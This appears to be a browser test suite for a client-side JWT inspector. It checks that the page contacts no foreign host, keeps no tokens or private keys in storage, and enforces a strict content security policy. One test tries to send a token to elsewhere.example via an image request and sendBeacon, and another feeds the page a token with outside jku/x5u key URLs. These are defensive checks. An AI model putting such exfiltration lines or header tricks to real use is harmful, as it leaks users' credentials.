import assert from 'node:assert/strict'
import { generateKeyPairSync } from 'node:crypto'
import { test } from 'node:test'
import { chromiumTest, inspector } from './chromium.js'
import { SAMPLES, enter, expectVerdict, sample, token, unfold } from './page.js'
import { claims, foreignKey } from './tokens.js'

const here = inspector()
const { open } = here

/** Everything that a page can leave behind, as one text. */
const traces = async (page) => [
  page.url(),
  ...page.said,
  await page.title(),
  JSON.stringify(await page.context().storageState({ indexedDB: true })),
  await page.evaluate(async () => {
    const kept = []
    for (const name of await caches.keys()) for (const { url } of await (await caches.open(name)).keys()) kept.push(url)
    return JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }, history.length, history.state, kept])
  }),
].join('\n')

test('no request goes beyond the page’s own files, whatever is done', chromiumTest, async () => {
  const page = await open()
  for (const name of Object.keys(SAMPLES)) await sample(page, name)
  await enter(page, foreignKey().token(claims({ iss: 'https://issuer.example' }), { alg: 'EdDSA', jku: 'https://issuer.example/jwks.json', x5u: 'https://issuer.example/x' }))
  await expectVerdict(page, 'ERR_SIGNATURE_INVALID')
  await unfold(page, '#making')
  await page.getByRole('button', { name: 'Issue token' }).click()
  await page.waitForTimeout(1500)
  const own = new Set(['', ...Object.keys(here.site.sizes)].map((name) => here.site.url + name))
  assert.deepEqual(page.requested.filter((url) => !own.has(url)), [])
  assert.deepEqual(here.site.asked.filter((path) => !own.has(here.site.url + path.slice(1))), [])
  console.log(`${new Set(page.requested).size} files requested, none of them foreign`)
})

test('the policy of the page forbids connections and strings as code', chromiumTest, async () => {
  const page = await open()
  const outcome = await page.evaluate(async () => {
    const violated = []
    document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => violated.push(violatedDirective))
    const outcome = { violated, fetch: await fetch('./').then(() => 'allowed', () => 'refused') }
    new Image().src = 'https://elsewhere.example/?token'
    navigator.sendBeacon('https://elsewhere.example/', 'token')
    try {
      document.body.innerHTML = '<b>'
    } catch {
      outcome.markup = 'refused'
    }
    await new Promise((done) => setTimeout(done, 300))
    return outcome
  })
  assert.equal(outcome.fetch, 'refused')
  assert.equal(outcome.markup, 'refused')
  for (const directive of ['connect-src', 'img-src', 'require-trusted-types-for']) assert.ok(outcome.violated.includes(directive), directive)
})

test('nothing of a token is left in the address, storage, caches, title or console', chromiumTest, async () => {
  const page = await open()
  const text = foreignKey().token(claims({ sub: 'a-telling-subject' }))
  await enter(page, text)
  await expectVerdict(page, 'unchecked')
  await unfold(page, '#making')
  await page.getByRole('button', { name: 'Flip one bit' }).click()
  await page.getByRole('button', { name: 'Sign again' }).click()
  const made = await token(page)
  await page.evaluate(() => navigator.serviceWorker.ready)
  const left = await traces(page)
  for (const secret of [...text.split('.'), ...made.split('.'), 'a-telling-subject']) assert.ok(!left.includes(secret), `${secret} in ${left}`)
  assert.deepEqual(page.said, [])
})

test('a token in the fragment is taken, and gone from the address at once', chromiumTest, async () => {
  const text = foreignKey().token(claims())
  const page = await open({ fragment: `#token=${text}` })
  await expectVerdict(page, 'unchecked')
  assert.equal(await token(page), text)
  assert.equal(page.url(), here.site.url)
  await page.evaluate((text) => { location.hash = `token=${text}` }, `x${text}`)
  await page.waitForFunction((text) => document.querySelector('#token').value === text, `x${text}`)
  assert.equal(page.url(), here.site.url)
  assert.ok(!(await traces(page)).includes(text.split('.')[1]))
})

const pem = (type, format, more = {}) => generateKeyPairSync(type, more).privateKey.export({ format: 'pem', ...format })
const jwk = (type, more) => generateKeyPairSync(type, more).privateKey.export({ format: 'jwk' })
const SECRETS = {
  'an RSA private key (PKCS#1)': [pem('rsa', { type: 'pkcs1' }, { modulusLength: 1024 }), /an RSA private key/],
  'an RSA private key (PKCS#8)': [pem('rsa', { type: 'pkcs8' }, { modulusLength: 1024 }), /a private key/],
  'an EC private key': [pem('ec', { type: 'sec1' }, { namedCurve: 'P-256' }), /an EC private key/],
  'an encrypted private key': [pem('ed25519', { type: 'pkcs8', cipher: 'aes-256-cbc', passphrase: 'x' }), /an encrypted private key/],
  'an OpenSSH private key': [`-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXk'.repeat(9)}\n-----END OPENSSH PRIVATE KEY-----`, /an OpenSSH private key/],
  'a symmetric JWK': [JSON.stringify({ kty: 'oct', k: 'c2VjcmV0IHNlY3JldCBzZWNyZXQ' }), /a symmetric key/],
  'a set with a symmetric key in it': [JSON.stringify({ keys: [foreignKey().publicJwk, { kty: 'oct', k: 'c2VjcmV0IHNlY3JldCBzZWNyZXQ' }] }), /a symmetric key/],
  'an EC private JWK': [JSON.stringify(jwk('ec', { namedCurve: 'P-256' })), /a private key/],
  'a malformed Ed25519 private JWK': [JSON.stringify({ ...foreignKey().privateJwk, x: 'AAAA' }), /a private key/],
  'a private JWK in broken JSON': [JSON.stringify(foreignKey().privateJwk).slice(0, -1), /a private or symmetric key/],
}

for (const [name, [text, warning]] of Object.entries(SECRETS)) {
  test(`${name} leaves the field and is never stored`, chromiumTest, async () => {
    const page = await open()
    await unfold(page, '#expectations')
    await page.locator('#remember').check()
    await page.locator('#keys').fill(text)
    assert.match(await page.locator('#keys-note').innerText(), warning)
    assert.equal(await page.locator('#keys').inputValue(), '')
    const left = await traces(page)
    const lines = text.includes('-----') ? text.split('\n').filter((line) => line !== '' && !line.startsWith('-')) : text.match(/[\w-]{20,}/g)
    for (const secret of lines) assert.ok(foreignKeysOf(text).includes(secret) || !left.includes(secret), secret)
  })
}

/** What of it is public: the x of a key that stands beside the secret. */
const foreignKeysOf = (text) => [...text.matchAll(/"x":"([\w-]+)"/g)].map(([, x]) => x)

test('a secret that an earlier version kept is gone after one visit', chromiumTest, async () => {
  const page = await open()
  await page.evaluate(() => localStorage.setItem('countersign', JSON.stringify({ keys: '{"kty":"oct","k":"c2VjcmV0IHNlY3JldCBzZWNyZXQ"}' })))
  await page.reload()
  await page.waitForFunction(() => !localStorage.getItem('countersign').includes('c2VjcmV0'))
})

test('accepted public keys are remembered', chromiumTest, async () => {
  const page = await open()
  const { publicJwk } = foreignKey()
  await unfold(page, '#expectations')
  await page.locator('#remember').check()
  await page.locator('#keys').fill(JSON.stringify(publicJwk))
  await page.reload()
  assert.ok((await page.locator('#keys').inputValue()).includes(publicJwk.x))
})

test('nothing is stored before the reader asks, and a token never', chromiumTest, async () => {
  const page = await open()
  await sample(page, 'valid')
  await unfold(page, '#making')
  const kid = await page.locator('#page-kid').innerText()
  assert.equal(await page.evaluate(() => localStorage.length), 0)
  await page.locator('#remember').check()
  await page.getByRole('radio', { name: 'Dark' }).check()
  await page.reload()
  await unfold(page, '#making')
  assert.equal(await page.locator('#page-kid').innerText(), kid)
  assert.equal(await page.locator('html').getAttribute('data-theme'), 'dark')
  assert.equal(await page.locator('#audience').inputValue(), 'api')
  assert.equal(await token(page), '')
  await page.locator('#remember').uncheck()
  assert.equal(await page.evaluate(() => localStorage.length), 0)
})
